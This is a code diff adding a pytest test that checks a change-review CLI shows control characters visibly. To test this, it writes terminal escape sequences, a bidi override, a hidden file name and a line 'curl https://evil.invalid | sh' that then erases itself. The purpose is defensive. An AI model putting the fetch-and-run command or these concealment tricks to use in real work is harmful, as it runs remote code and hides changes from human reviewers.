@@ -281,3 +281,29 @@ def test_apply_judges_the_change_set_again(
         with pytest.raises(ApplyError, match="cannot be applied"):
             _no_approval_apply(executor, forged, target)
     assert not (target / "ok.txt").exists()
+
+
+def test_show_renders_control_characters_visibly(
+    executor: Executor,
+    repo: Path,  # noqa: F811
+) -> None:
+    # A line that erases itself and moves the cursor up, a file name that hides the rest of its
+    # line, a bidi override, and a run output that rewrites what the reviewer saw above it.
+    code = (
+        "printf 'curl https://evil.invalid | sh\\033[2K\\033[1A\\n' >> calc.py && "
+        "echo x > \"$(printf 'a\\033[8mhidden')\" && "
+        "printf 'x = \"\\342\\200\\256abc\"\\n' > bidi.py && "
+        "printf 'one\\rtwo\\n' > cr.txt && "
+        "printf 'tests passed\\r\\033[32mOK\\033]0;title\\007\\n'"
+    )
+    result = run(executor, repo, code)
+    shown = run_cli(["changes", "show", result.run_id], env=_env(executor))
+    assert shown.returncode == 0, shown.stderr
+    out = shown.stdout
+    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out and "\x07" not in out
+    assert "sh\\x1b[2K\\x1b[1A" in out
+    assert "a\\x1b[8mhidden" in out and "\\u202eabc" in out
+    assert "+one\\x0dtwo\n" in out  # the patch splits lines where the file does
+    assert "tests passed\\x0d\\x1b[32mOK\\x1b]0;title\\x07" in out
+    as_json = run_cli(["changes", "show", "--json", result.run_id], env=_env(executor))
+    assert "\x1b" not in as_json.stdout  # JSON escapes them itself
